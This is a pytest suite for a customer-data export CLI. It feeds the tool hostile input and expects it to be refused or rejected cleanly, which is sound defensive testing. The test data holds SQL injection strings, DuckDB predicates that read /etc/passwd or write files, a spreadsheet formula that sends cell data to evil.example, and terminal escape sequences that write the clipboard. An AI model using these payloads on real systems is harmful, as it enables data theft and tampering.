"""Hostile input: broken profile files, poisonous values, predicates that try to escape.

A user's data is whatever it is. Every case must end in one of two ways: the
command refuses with exit 2 and a message naming the problem, or the export
runs and each bad row is rejected with a reason. Never a traceback, never a
run left half-written in history (`segsync runs --json` still works and every
run has a final status).
"""

from __future__ import annotations

import csv
import io
import os
import shutil
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import duckdb
import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from store.history import History
from store.paths import history_path
from store.workspace import QueryInterrupted
from tests.engine.conftest import run_cli
from tests.reliability.conftest import (
    FIGURES,
    Env,
    assert_counts_add_up,
    cli_json,
    export_json,
    record_latency,
)
from tests.reliability.profiles import SEGMENTS_TOML, intended_emails, make_columns
from tui.cli import main

pytestmark = pytest.mark.slow  # hostile input end to end, endless queries, signals

COLUMNS = make_columns(300, salt=3)
INTENDED = intended_emails(COLUMNS, ["everyone"])


def csv_bytes(columns: dict[str, list], delimiter: str = ",", newline: str = "\n") -> bytes:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator=newline)
    names = list(columns)
    writer.writerow(names)
    for row in zip(*(columns[n] for n in names), strict=True):
        writer.writerow(["" if v is None else v for v in row])
    return out.getvalue().encode("utf-8")


def use_source(env: Env, filename: str, data: bytes, toml: str = SEGMENTS_TOML) -> None:
    """Point the workspace at a new profile file (the destination's mapping stays)."""
    (env.workspace / filename).write_bytes(data)
    (env.workspace / "segments.toml").write_text(
        toml.replace('path = "profiles.parquet"', f'path = "{filename}"')
    )


def assert_history_whole(env: Env, capsys) -> None:
    """`segsync runs --json` works and no run is left without a final status."""
    code, runs = cli_json(capsys, "runs", "--json")
    assert code == 0
    assert isinstance(runs, list)
    assert all(r["status"] != "running" for r in runs), runs
    assert History(history_path(env.state_dir)).integrity_check() == "ok"


def refused(env: Env, capsys, *argv: str) -> str:
    code, summary, err = export_json(capsys, "news", *argv)
    assert code == 2, (code, summary, err)
    assert "Traceback" not in err
    assert err.startswith("segsync: "), err
    FIGURES["hostile_inputs_tried"] += 1
    return err


def exported(env: Env, capsys, *argv: str) -> dict:
    code, summary, err = export_json(capsys, "news", *argv)
    assert "Traceback" not in err
    assert code in (0, 3), (code, summary, err)
    assert_counts_add_up(summary["counts"])
    FIGURES["hostile_inputs_tried"] += 1
    return summary


# -- broken profile files ------------------------------------------------------


def _truncated_parquet() -> bytes:
    sink = io.BytesIO()
    pq.write_table(pa.table(COLUMNS), sink)
    data = sink.getvalue()
    return data[: len(data) // 2]


REFUSED_FILES = {
    "truncated_parquet": ("profiles.parquet", _truncated_parquet(), "Parquet"),
    "not_utf8": (
        "profiles.csv",
        csv_bytes(COLUMNS).replace(b"First1,", "Jürgen,".encode("latin-1")),
        "UTF-8",
    ),
    "duplicate_columns": (
        "profiles.csv",
        csv_bytes(COLUMNS).replace(b"last_name", b"email", 1),
        "duplicate column",
    ),
    "duplicate_columns_differing_in_case": (
        "profiles.csv",
        csv_bytes(COLUMNS).replace(b"last_name", b"EMAIL", 1),
        "duplicate column",
    ),
    "missing_mapped_column": (
        "profiles.csv",
        csv_bytes({k: v for k, v in COLUMNS.items() if k != "first_name"}),
        "first_name",
    ),
    "missing_consent_column": (
        "profiles.csv",
        csv_bytes({k: v for k, v in COLUMNS.items() if k != "email_opt_in"}),
        "email_opt_in",
    ),
    "empty_file": ("profiles.csv", b"", "profiles.csv"),
    "row_with_an_extra_field": (
        "profiles.csv",
        csv_bytes(COLUMNS).replace(b"\n", b",extra\n", 12).replace(b",extra\n", b"\n", 11),
        "line 12 has 9 fields",
    ),
    "row_with_missing_fields": (
        "profiles.csv",
        csv_bytes(COLUMNS).replace(b"\n10,", b"\n10,short\n99999,", 1),
        "has 2 fields",
    ),
    "invalid_segments_toml": ("profiles.parquet", b"", "invalid TOML"),
    "not_a_profile_file": ("profiles.parquet", b"PAR1 this is not parquet", "Parquet"),
}


@pytest.mark.parametrize("case", list(REFUSED_FILES))
def test_broken_profile_file_is_refused_with_the_problem_named(case: str, env: Env, capsys):
    env.add_destination("news")
    filename, data, problem = REFUSED_FILES[case]
    use_source(env, filename, data)
    if case == "invalid_segments_toml":
        (env.workspace / "segments.toml").write_text('[profiles\npath = "profiles.parquet"')
    err = refused(env, capsys, "--segment", "everyone")
    assert problem.lower() in err.lower(), err
    assert env.members("news") == set()
    assert_history_whole(env, capsys)


ACCEPTED_FILES = {
    "utf8_bom": ("profiles.csv", b"\xef\xbb\xbf" + csv_bytes(COLUMNS)),
    "crlf": ("profiles.csv", csv_bytes(COLUMNS, newline="\r\n")),
    "semicolons": ("profiles.csv", csv_bytes(COLUMNS, delimiter=";")),
    "pipes": ("profiles.csv", csv_bytes(COLUMNS, delimiter="|")),
    "tabs": ("profiles.tsv", csv_bytes(COLUMNS, delimiter="\t")),
    "bom_crlf_semicolons": (
        "profiles.csv",
        b"\xef\xbb\xbf" + csv_bytes(COLUMNS, delimiter=";", newline="\r\n"),
    ),
}


@pytest.mark.parametrize("case", list(ACCEPTED_FILES))
def test_odd_but_valid_csv_exports_exactly(case: str, env: Env, capsys):
    env.add_destination("news")
    use_source(env, *ACCEPTED_FILES[case])
    summary = exported(env, capsys, "--segment", "everyone")
    assert summary["status"] == "succeeded", summary
    assert env.members("news") == INTENDED
    assert summary["counts"]["selected"] == len(COLUMNS["email"])
    assert_history_whole(env, capsys)


def test_truncated_csv_is_refused_or_its_broken_row_rejected(env: Env, capsys):
    env.add_destination("news")
    data = csv_bytes(COLUMNS)
    cut = data[: data.rfind(b"\n", 0, len(data) - 1) + 20]  # mid-way through the last row
    use_source(env, "profiles.csv", cut)
    code, summary, err = export_json(capsys, "news", "--segment", "everyone")
    FIGURES["hostile_inputs_tried"] += 1
    assert "Traceback" not in err
    if code == 2:
        assert "profiles.csv" in err, err
        assert env.members("news") == set()
    else:
        assert code in (0, 3), (code, summary, err)
        complete = {k: v[:-1] for k, v in COLUMNS.items()}
        assert env.members("news") == intended_emails(complete, ["everyone"])
    assert_history_whole(env, capsys)


# -- poisonous values ------------------------------------------------------------

LONG = "X" * 10_000
HOSTILE_ROWS: list[tuple[str | None, str, str, str | None]] = [
    # (email, first_name, city, expected: None = on the list, else the rejection category)
    ("", "Empty", "Berlin", "no_email"),
    ("      ", "Spaces", "Berlin", "no_email"),
    ("a" * 60 + "@" + "b" * 190 + ".example.com", "Long", "Berlin", "invalid_email"),
    ("jörg@example.com", "Unicode", "Berlin", "invalid_email"),
    ("user@bücher.de", "IDN", "Berlin", "invalid_email"),
    ("user@xn--bcher-kva.de", "Punycode", "Berlin", None),
    ("o'brien@example.com", "Quote", "Berlin", None),
    ("x'); DROP TABLE contacts; --@example.com", "Sql", "Berlin", "invalid_email"),
    ("robert@example.com'; DELETE FROM plan_rows; --", "Sql2", "Berlin", "invalid_email"),
    ("nul\x00byte@example.com", "Nul", "Berlin", "invalid_email"),
    ("bell\x07@example.com", "Bell", "Berlin", "invalid_email"),
    ("line\nbreak@example.com", "Newline", "Berlin", "invalid_email"),
    ("UPPER.Case@Example.COM", "Upper", "Berlin", None),
    ("long.first@example.com", LONG, "Berlin", "too_long"),
    ("long.city@example.com", "City", LONG, "too_long"),
    ("json.breaker@example.com", 'Quote " back\\slash \u2028 [b]x[/b]', "<i>Köln</i>", None),
    ("emoji@example.com", "👩‍👩‍👧 مرحبا", "東京", None),
]


def test_poisonous_values_are_sent_verbatim_or_rejected_with_a_reason(env: Env, capsys):
    env.add_destination("news")
    n = len(HOSTILE_ROWS)
    columns = {
        "customer_id": list(range(n)),
        "email": [r[0] for r in HOSTILE_ROWS],
        "first_name": [r[1] for r in HOSTILE_ROWS],
        "last_name": ["Last"] * n,
        "country": ["DE"] * n,
        "city": [r[2] for r in HOSTILE_ROWS],
        "lifetime_value": [1.0] * n,
        "email_opt_in": [True] * n,
    }
    sink = io.BytesIO()
    pq.write_table(pa.table(columns), sink)
    use_source(env, "profiles.parquet", sink.getvalue())
    summary = exported(env, capsys, "--segment", "everyone")
    FIGURES["hostile_inputs_tried"] += n - 1

    history = History(history_path(env.state_dir))
    rejected = {r.key: r for r in history.rejected_rows(summary["run"])}
    on_list = env.members("news")
    for i, (email, first, city, expected) in enumerate(HOSTILE_ROWS):
        if expected is None:
            address = email.strip().lower()
            assert address in on_list, (email, rejected.get(str(i)))
            contact = env.emulator.state.contact(address)
            assert contact["first_name"] == first and contact["city"] == city
        else:
            record = rejected[str(i)]
            assert record.reason.startswith(expected), (email, record)
    assert len(on_list) + len(rejected) == n
    assert summary["counts"]["selected"] == n


# -- predicates that try to escape ------------------------------------------------


def predicate_cases(tmp: Path) -> dict[str, str]:
    marker = tmp / "pwned.csv"
    other = tmp / "other.csv"
    other.write_text("email\nsecret@example.com\n")
    return {
        "invalid_sql": "country = ",
        "missing_column": "no_such_column = 1",
        "drop_after_semicolon": "1=1; DROP TABLE profiles",
        "copy_to_file": f"1=1; COPY profiles TO '{marker}'",
        "copy_breaking_out_of_parens": f"1=1) ; COPY (SELECT 1) TO '{marker}' ; SELECT (1",
        "attach": f"1=1; ATTACH '{tmp / 'evil.db'}' AS evil",
        "install": "1=1; INSTALL httpfs",
        "load": "1=1; LOAD httpfs",
        "set_external_access": "1=1; SET enable_external_access = true",
        "read_csv_of_another_file": f"email IN (SELECT email FROM read_csv('{other}'))",
        "read_text_of_passwd": "(SELECT count(*) FROM read_text('/etc/passwd')) > 0",
        "union_fragment": "1=1) UNION ALL SELECT * FROM profiles WHERE (1=1",
    }


def test_escaping_predicates_are_refused_by_segment_name(env: Env, tmp_path: Path, capsys):
    env.add_destination("news")
    cases = predicate_cases(tmp_path)
    toml = SEGMENTS_TOML + "".join(
        f"\n[segments.evil_{name}]\nwhere = '''{where}'''\n" for name, where in cases.items()
    )
    (env.workspace / "segments.toml").write_text(toml)

    code, listed = cli_json(capsys, "segments", "--json")
    assert code == 1  # documented: some segment has an error
    by_name = {s["name"]: s for s in listed}
    assert by_name["germany"]["count"] is not None  # good segments still count
    for name in cases:
        assert by_name[f"evil_{name}"]["error"], by_name[f"evil_{name}"]

    for name in cases:
        err = refused(env, capsys, "--segment", "germany", "--segment", f"evil_{name}")
        assert f"evil_{name}" in err, err
    assert not (tmp_path / "pwned.csv").exists()
    assert not (tmp_path / "evil.db").exists()
    assert "secret@example.com" not in env.emulator.state.contacts
    assert env.members("news") == set()
    assert_history_whole(env, capsys)


def test_predicate_failing_at_run_time_fails_the_run_naming_the_segment(env: Env, capsys):
    """A predicate that binds but fails on some row's value (a bad cast) is only
    found by evaluating it: the run fails before sending, naming the segment."""
    env.add_destination("news")
    toml = SEGMENTS_TOML + "\n[segments.bad_cast]\nwhere = 'CAST(email AS INTEGER) > 0'\n"
    (env.workspace / "segments.toml").write_text(toml)
    code, summary, err = export_json(
        capsys, "news", "--segment", "germany", "--segment", "bad_cast"
    )
    FIGURES["hostile_inputs_tried"] += 1
    assert "Traceback" not in err
    assert code in (1, 2), (code, summary, err)
    message = summary.get("message") or err
    assert "bad_cast" in message, message
    assert env.emulator.state.stats()["contacts_received"] == 0
    assert_history_whole(env, capsys)


def test_predicate_with_trailing_comment_still_works(env: Env, capsys):
    env.add_destination("news")
    toml = SEGMENTS_TOML + "\n[segments.commented]\nwhere = \"country = 'DE' -- Germany\"\n"
    (env.workspace / "segments.toml").write_text(toml)
    summary = exported(env, capsys, "--segment", "commented")
    assert summary["status"] == "succeeded"


# -- the workspace disappears --------------------------------------------------------


def test_workspace_removed_before_export_is_refused(env: Env, capsys):
    env.add_destination("news")
    shutil.rmtree(env.workspace)
    err = refused(env, capsys, "--segment", "everyone")
    assert str(env.workspace) in err
    assert_history_whole(env, capsys)


@pytest.mark.parametrize("moment", ["planning", "job completed"])
def test_workspace_deleted_mid_run_ends_exact_or_fails_cleanly(moment: str, env: Env, capsys):
    """The run may finish from files it already opened, or fail with a message;
    either way history is whole and the list ends exact (after a resume)."""
    env.add_destination("news")
    columns = make_columns(3000, salt=4)
    pq.write_table(pa.table(columns), env.workspace / "profiles.parquet")
    backup = env.workspace.with_name("backup")
    shutil.copytree(env.workspace, backup)
    env.emulator.set_faults(latency=0.05, job_delay=0.2)
    proc = env.start(
        "export", "news", "--segment", "everyone", "--batch-size", "200", "--concurrency", "1"
    )
    assert proc.stderr is not None
    lines = []
    for line in proc.stderr:
        lines.append(line)
        if moment in line:
            shutil.rmtree(env.workspace)
            break
    try:
        _out, rest = proc.communicate(timeout=60)
    except subprocess.TimeoutExpired:
        proc.send_signal(signal.SIGKILL)
        raise
    err = "".join(lines) + rest
    FIGURES["hostile_inputs_tried"] += 1
    assert "Traceback" not in err, err
    assert_history_whole(env, capsys)
    runs = History(history_path(env.state_dir)).list_runs()
    intended = intended_emails(columns, ["everyone"])
    if not runs:
        # Gone while planning: no plan, no run, nothing sent; the message names the file.
        assert proc.returncode == 2, (proc.returncode, err)
        assert "profiles.parquet" in err, err
        assert env.members("news") == set()
        shutil.copytree(backup, env.workspace)  # the user puts it back and exports again
        env.emulator.set_faults(latency=0.0, job_delay=0.0)
        code, summary, err = export_json(capsys, "news", "--segment", "everyone")
        assert code == 0, (summary, err)
        assert env.members("news") == intended
        return
    run = runs[0]
    if proc.returncode == 0:
        assert run.status == "succeeded"
    else:
        assert proc.returncode in (1, 2), (proc.returncode, err)
        assert run.status == "failed", run
        assert "profiles.parquet: the file does not exist" in run.message, run.message
        shutil.copytree(backup, env.workspace)  # the user puts it back and resumes
        env.emulator.set_faults(latency=0.0, job_delay=0.0)
        code, summary, err = export_json(capsys, "news", "--resume", str(run.id))
        assert code == 0, (summary, err)
    assert env.members("news") == intended


# -- reports opened in a spreadsheet ------------------------------------------------


def test_rejected_rows_csv_does_not_carry_formulas(env: Env, capsys, tmp_path: Path):
    env.add_destination("news")
    formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
    n = len(formulas)
    columns = {
        "customer_id": list(range(n)),
        "email": formulas,
        "first_name": ["F"] * n,
        "last_name": ["L"] * n,
        "country": ["DE"] * n,
        "city": ["C"] * n,
        "lifetime_value": [1.0] * n,
        "email_opt_in": [True] * n,
    }
    pq.write_table(pa.table(columns), env.workspace / "profiles.parquet")
    summary = exported(env, capsys, "--segment", "everyone")
    report = tmp_path / "rejected.csv"
    assert run_cli(main, "runs", "rejected", str(summary["run"]), "--csv", str(report)) == 0
    rows = list(csv.DictReader(report.open(encoding="utf-8")))
    assert len(rows) == n
    assert stat.S_IMODE(report.stat().st_mode) == 0o600  # personal data: owner-only
    for row in rows:
        assert row["email"][:1] not in ("=", "+", "-", "@"), row


# -- text that tries to drive the terminal ------------------------------------------

OSC52 = "\x1b]52;c;REFUQQ==\x1b\\"  # writes "DAAA" to the clipboard
TITLE = "\x1b]0;title\x07"  # sets the window title
BIDI = "\u202e"  # right-to-left override: text reads backwards
RAW = ("\x1b", "\x07", "\u202e", "\x9b")


def _toml_string(text: str) -> str:
    """A TOML basic string holding ``text`` exactly (control characters escaped)."""
    out = []
    for ch in text:
        if ch in '"\\' or ord(ch) < 0x20 or ord(ch) == 0x7F or 0x80 <= ord(ch) < 0xA0:
            out.append(f"\\u{ord(ch):04x}")
        else:
            out.append(ch)
    return '"' + "".join(out) + '"'


HOSTILE_SEGMENTS = {
    f"clip{OSC52}": (f"copies{OSC52}", f"country = 'DE' -- {OSC52}"),
    f"title{TITLE}": (f"names the window{TITLE}", f"country = 'FR' /* {TITLE} */"),
    f"bidi{BIDI}gpj.exe": (f"reads backwards {BIDI}", f"lifetime_value >= 0 -- {BIDI}"),
    "bad_column": ("", f'"no_such{OSC52}" = 1'),
    "bad_literal": ("", f"CAST('{OSC52}{TITLE}' AS INTEGER) = 1"),
}


def _hostile_toml() -> str:
    return SEGMENTS_TOML + "".join(
        f"\n[segments.{_toml_string(name)}]\ndescription = {_toml_string(description)}\n"
        f"where = {_toml_string(where)}\n"
        for name, (description, where) in HOSTILE_SEGMENTS.items()
    )


def assert_no_raw_controls(*outputs: str) -> None:
    for text in outputs:
        for ch in RAW:
            assert ch not in text, (ch, text)
    FIGURES["escapes_neutralised"] += len(outputs)


def test_segment_names_descriptions_and_predicates_cannot_drive_the_terminal(
    env: Env, capsys
) -> None:
    (env.workspace / "segments.toml").write_text(_hostile_toml())
    capsys.readouterr()
    code = run_cli(main, "segments")
    out, err = capsys.readouterr()
    assert code == 1  # some segments have errors: documented
    assert_no_raw_controls(out, err)
    assert "clip\\x1b]52;c;REFUQQ==\\x1b\\" in out  # shown, made visible
    assert "bidi\\u202egpj.exe" in out
    assert "no_such" in out  # DuckDB's error still says what is wrong
    FIGURES["hostile_inputs_tried"] += len(HOSTILE_SEGMENTS)

    # --json stays exact: a program reading it gets the real names back.
    code, listed = cli_json(capsys, "segments", "--json")
    assert code == 1
    by_name = {s["name"]: s for s in listed}
    for name, (description, where) in HOSTILE_SEGMENTS.items():
        assert by_name[name]["description"] == description
        assert by_name[name]["where"] == where
    assert by_name[f"clip{OSC52}"]["count"] is not None


def test_a_failed_command_does_not_echo_raw_escapes(env: Env, capsys) -> None:
    env.add_destination("news")
    (env.workspace / "segments.toml").write_text(_hostile_toml())
    for name in ("bad_column", "bad_literal", f"missing{OSC52}"):
        code, summary, err = export_json(capsys, "news", "--segment", name)
        assert code == 2, (code, summary, err)
        assert "unexpected" not in err
        assert_no_raw_controls(err)
    # An error from the command line itself, quoting what the user typed.
    capsys.readouterr()
    assert run_cli(main, "map", "news", f"email{TITLE}") == 2
    out, err = capsys.readouterr()
    assert_no_raw_controls(out, err)
    assert env.members("news") == set()


def test_list_and_destination_names_from_sendgrid_cannot_drive_the_terminal(
    env: Env, capsys
) -> None:
    """A list name is whatever someone typed into SendGrid; it is printed by
    `destinations add`, `list`, `show` and `test`."""
    list_id = env.emulator.state.create_list(f"VIP{OSC52}{TITLE}{BIDI}")["id"]
    name = f"news{TITLE}"
    capsys.readouterr()
    code = run_cli(
        main, "destinations", "add", name, "--list-id", list_id, "--api-key-env", "DEST_KEY",
        "--base-url", env.emulator.url,
    )  # fmt: skip
    out, err = capsys.readouterr()
    assert code == 0, err
    assert "VIP\\x1b]52" in out  # shown, made visible
    outputs = [out, err]
    for argv in (["list"], ["show", name], ["test", name]):
        capsys.readouterr()
        run_cli(main, "destinations", *argv)
        outputs.extend(capsys.readouterr())
    assert_no_raw_controls(*outputs)
    code, listed = cli_json(capsys, "destinations", "list", "--json")
    assert listed[0]["list_name"] == f"VIP{OSC52}{TITLE}{BIDI}"  # --json stays exact


# -- predicates that run forever, or hold nothing -----------------------------------

ENDLESS = (
    "(WITH RECURSIVE t(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t) > 0"
)


def test_a_slow_segment_is_named_by_the_time_limit_while_the_others_count(env: Env, capsys) -> None:
    toml = SEGMENTS_TOML + f"\n[segments.forever]\nwhere = '''{ENDLESS}'''\n"
    toml += "\n[segments.huge]\nwhere = '(SELECT count(*) FROM range(1000000000000)) > 0'\n"
    (env.workspace / "segments.toml").write_text(toml)
    started = time.monotonic()
    code, listed = cli_json(capsys, "segments", "--json", "--query-timeout", "1")
    took = time.monotonic() - started
    FIGURES["hostile_inputs_tried"] += 2
    assert code == 1
    by_name = {s["name"]: s for s in listed}
    for slow in ("forever", "huge"):
        assert by_name[slow]["count"] is None
        assert "longer than 1 s" in by_name[slow]["error"], by_name[slow]
    profiles = pq.read_table(env.workspace / "profiles.parquet").to_pydict()
    assert by_name["everyone"]["count"] == len(profiles["email"])
    assert by_name["germany"]["count"] == sum(c == "DE" for c in profiles["country"])
    assert took < 60, took  # bounded: a few time limits, not forever
    print(f"segments with two endless predicates, --query-timeout 1: {took:.2f} s")
    FIGURES["slow_segments_stopped_by_the_time_limit"] += 2
    record_latency("segments_with_2_endless_of_5_at_query_timeout_1s", took)


@pytest.mark.parametrize("where", ["-- nothing", "/* nothing */", "\n  -- a\n  -- b\n"])
def test_a_comment_only_predicate_is_refused_up_front(env: Env, capsys, where: str) -> None:
    env.add_destination("news")
    toml = SEGMENTS_TOML + f"\n[segments.hollow]\nwhere = {_toml_string(where)}\n"
    (env.workspace / "segments.toml").write_text(toml)
    err = refused(env, capsys, "--segment", "hollow")
    assert "hollow" in err and "empty" in err, err
    assert "SELECT" not in err
    assert env.emulator.state.stats()["contacts_received"] == 0
    assert_history_whole(env, capsys)


def test_predicate_failing_at_run_time_exits_2_naming_it_without_internal_sql(
    env: Env, capsys
) -> None:
    env.add_destination("news")
    toml = SEGMENTS_TOML + "\n[segments.bad_cast]\nwhere = 'CAST(email AS INTEGER) > 0'\n"
    (env.workspace / "segments.toml").write_text(toml)
    code, summary, err = export_json(capsys, "news", "--segment", "bad_cast")
    message = summary.get("message") or err
    assert code == 2, (code, message)
    assert "bad_cast" in message
    assert "SELECT" not in message and "LINE " not in message, message  # no internal SQL


# -- interrupts --------------------------------------------------------------------


def _wait_for_duckdb(tmpdir: Path, proc: subprocess.Popen[str], limit: float = 60) -> None:
    """Until the process has opened a workspace connection (its private DuckDB temp
    folder appears under TMPDIR), then a little longer so the count is under way."""
    deadline = time.monotonic() + limit
    while not any(tmpdir.glob("segsync-duckdb-*")):
        assert proc.poll() is None, proc.communicate()
        assert time.monotonic() < deadline, "the command never opened the workspace"
        time.sleep(0.05)
    time.sleep(1.0)


@pytest.mark.parametrize("signame", ["SIGINT", "SIGTERM"])
def test_an_endless_count_stops_on_a_signal_with_exit_4(
    env: Env, capsys, tmp_path: Path, signame: str
) -> None:
    """`segsync segments` on an endless predicate used to ignore Ctrl+C for minutes:
    DuckDB does not look at Python's signals while a query step runs."""
    toml = SEGMENTS_TOML + f"\n[segments.forever]\nwhere = '''{ENDLESS}'''\n"
    (env.workspace / "segments.toml").write_text(toml)
    tmpdir = tmp_path / "tmp"
    tmpdir.mkdir()
    proc = subprocess.Popen(
        [sys.executable, "-m", "tui", "segments", "--query-timeout", "600"],
        env={**env.subprocess_env(), "TMPDIR": str(tmpdir)},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        _wait_for_duckdb(tmpdir, proc)
        sent = time.monotonic()
        proc.send_signal(getattr(signal, signame))
        out, err = proc.communicate(timeout=60)
        latency = time.monotonic() - sent
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 4, (proc.returncode, out, err)
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("segsync: ") and "unexpected" not in err and "Traceback" not in err
    assert not list(tmpdir.glob("segsync-duckdb-*"))  # its temp folder went with it
    assert latency < 30, latency  # generous: the promise is "within a second"
    print(f"{signame} to exit 4: {latency * 1000:.0f} ms")
    FIGURES["interrupts_honoured"] += 1
    record_latency(f"{signame.lower()}_during_an_endless_count_to_exit_4", latency)


@pytest.mark.parametrize(
    "raised",
    [
        RuntimeError("Query interrupted"),  # DuckDB noticed the signal itself
        duckdb.InterruptException("INTERRUPT Error: Interrupted!"),  # con.interrupt()
        QueryInterrupted("interrupted"),
        KeyboardInterrupt(),
    ],
    ids=["runtime_error", "duckdb_interrupt", "query_interrupted", "keyboard_interrupt"],
)
def test_every_shape_of_an_interrupt_exits_4_in_one_line(
    env: Env, capsys, monkeypatch: pytest.MonkeyPatch, raised: BaseException
) -> None:
    """However an interrupt surfaces, it is a cancellation (exit 4), never
    "unexpected RuntimeError: Query interrupted … report it"."""
    import cli.commands

    def interrupted(_args: object) -> int:
        raise raised

    monkeypatch.setattr(cli.commands, "cmd_segments", interrupted)
    capsys.readouterr()
    assert run_cli(main, "segments") == 4
    err = capsys.readouterr().err
    assert err == "segsync: interrupted\n", err
    FIGURES["interrupts_honoured"] += 1


@pytest.mark.parametrize("signame", ["SIGINT", "SIGTERM"])
def test_an_export_planning_an_endless_segment_stops_on_a_signal(
    env: Env, capsys, signame: str
) -> None:
    """The endless predicate passes the checks (they run it over zero rows) and
    hangs the plan: a signal must still end the export with exit 4, nothing sent,
    no run left `running`, and the process gone."""
    env.add_destination("news")
    toml = SEGMENTS_TOML + f"\n[segments.forever]\nwhere = {_toml_string(ENDLESS)}\n"
    (env.workspace / "segments.toml").write_text(toml)
    proc = env.start("export", "news", "--segment", "forever")
    assert proc.stderr is not None
    try:
        lines = []
        for line in proc.stderr:
            lines.append(line)
            if "planning" in line:
                break
        time.sleep(1.0)
        sent = time.monotonic()
        proc.send_signal(getattr(signal, signame))
        _out, rest = proc.communicate(timeout=60)
        latency = time.monotonic() - sent
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    err = "".join(lines) + rest
    assert proc.returncode == 4, (proc.returncode, err)
    assert "unexpected" not in err and "Traceback" not in err, err
    assert latency < 30, latency
    print(f"{signame} during an endless export plan to exit 4: {latency * 1000:.0f} ms")
    FIGURES["interrupts_honoured"] += 1
    record_latency(f"{signame.lower()}_during_an_endless_plan_to_exit_4", latency)
    assert env.emulator.state.stats()["contacts_received"] == 0
    assert_history_whole(env, capsys)


def test_a_large_sample_stops_on_ctrl_c_with_exit_4(tmp_path: Path) -> None:
    """`segsync sample` spends its time in one DuckDB COPY: the same watcher stops it."""
    out = tmp_path / "big"
    proc = subprocess.Popen(
        [sys.executable, "-m", "tui", "sample", "--rows", "200000000", "--out", str(out)],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
    )
    try:
        deadline = time.monotonic() + 60
        while not (out / "profiles.parquet").exists():
            assert proc.poll() is None, proc.communicate()
            assert time.monotonic() < deadline, "the sample never started writing"
            time.sleep(0.05)
        time.sleep(1.0)
        sent = time.monotonic()
        proc.send_signal(signal.SIGINT)
        _out, err = proc.communicate(timeout=60)
        latency = time.monotonic() - sent
    finally:
        if proc.poll() is None:
            proc.kill()
            proc.communicate()
    assert proc.returncode == 4, (proc.returncode, err)
    assert err.strip() == "segsync: interrupted", err
    assert latency < 30, latency
    print(f"SIGINT during segsync sample to exit 4: {latency * 1000:.0f} ms")
    FIGURES["interrupts_honoured"] += 1
    record_latency("sigint_during_sample_to_exit_4", latency)


# -- state folders and files that are shared, broken or full --------------------------


def _one_line_refusal(capsys, code_expected: int, *argv: str) -> str:
    capsys.readouterr()
    code = run_cli(main, *argv)
    out, err = capsys.readouterr()
    assert code == code_expected, (code, out, err)
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("segsync: ") and "unexpected" not in err and "Traceback" not in err
    FIGURES["state_problems_explained"] += 1
    return err


def test_a_state_folder_others_can_write_is_refused(env: Env, capsys) -> None:
    env.add_destination("news")
    os.chmod(env.state_dir, 0o777)
    err = _one_line_refusal(capsys, 2, "runs")
    assert f"chmod 700 {env.state_dir}" in err
    os.chmod(env.state_dir, 0o700)
    assert run_cli(main, "runs") == 0  # fixed as the message says: used again


def test_a_corrupt_history_gets_one_line_and_exit_2(env: Env, capsys) -> None:
    """In a process of its own: SQLite connections left open in this one would
    still serve the old pages from their write-ahead log."""
    env.add_destination("news")
    history = history_path(env.state_dir)
    for suffix in ("-wal", "-shm"):
        history.with_name(history.name + suffix).unlink(missing_ok=True)
    history.write_bytes(b"this is not SQLite " * 512)
    proc = env.start("runs")
    out, err = proc.communicate(timeout=60)
    FIGURES["state_problems_explained"] += 1
    assert proc.returncode == 2, (proc.returncode, out, err)
    assert len(err.strip().splitlines()) == 1, err
    assert err.startswith("segsync: ") and "unexpected" not in err and "Traceback" not in err
    assert str(history) in err and "damaged" in err and "mv " in err


def test_a_lock_path_that_is_a_folder_is_explained(env: Env, capsys) -> None:
    env.add_destination("news")
    dest_id = History(history_path(env.state_dir)).get_destination("news").id
    lock = env.state_dir / "locks" / f"destination-{dest_id}.lock"
    lock.parent.mkdir(mode=0o700, exist_ok=True)
    lock.unlink(missing_ok=True)
    lock.mkdir()
    code, summary, err = export_json(capsys, "news", "--segment", "everyone")
    FIGURES["state_problems_explained"] += 1
    message = summary.get("message") or err
    assert code in (1, 2), (code, message)
    assert str(lock) in message and "unexpected" not in err, message
    assert env.members("news") == set()


def test_a_report_into_a_missing_folder_is_explained(env: Env, capsys, tmp_path: Path) -> None:
    env.add_destination("news")
    summary = exported(env, capsys, "--segment", "everyone")
    target = tmp_path / "no" / "such" / "rejected.csv"
    err = _one_line_refusal(
        capsys, 2, "runs", "rejected", str(summary["run"]), "--csv", str(target)
    )
    assert str(target) in err


def _mount_tmpfs(where: Path, options: str) -> bool:
    """A small file system of its own (needs root and mount rights); False if not allowed."""
    where.mkdir(mode=0o700)
    result = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", options, "tmpfs", str(where)],
        capture_output=True,
        check=False,
    )
    return result.returncode == 0


@pytest.fixture
def mounted(tmp_path: Path):
    mounts: list[Path] = []

    def mount(name: str, options: str) -> Path:
        where = tmp_path / name
        if os.geteuid() != 0 or shutil.which("mount") is None or not _mount_tmpfs(where, options):
            pytest.skip("needs root with mount rights for a read-only or full file system")
        mounts.append(where)
        return where

    yield mount
    for where in mounts:
        subprocess.run(["umount", "-l", str(where)], check=False)


def test_a_read_only_state_folder_is_explained(env: Env, capsys, mounted) -> None:
    state = mounted("ro", "ro,size=1m,mode=0700")
    err = _one_line_refusal(capsys, 2, "--state-dir", str(state), "runs")
    assert str(state) in err and "read-only" in err.lower() and "--state-dir" in err


def test_a_full_disk_is_explained(env: Env, capsys, mounted) -> None:
    state = mounted("full", "size=8k,mode=0700")
    err = _one_line_refusal(capsys, 1, "--state-dir", str(state), "runs")
    assert str(state) in err and "disk is full" in err


def test_a_binary_file_passed_off_as_csv_gets_one_line(env: Env, capsys) -> None:
    env.add_destination("news")
    use_source(env, "profiles.csv", bytes(range(256)) * 64)
    err = refused(env, capsys, "--segment", "everyone")
    assert len(err.strip().splitlines()) == 1, err
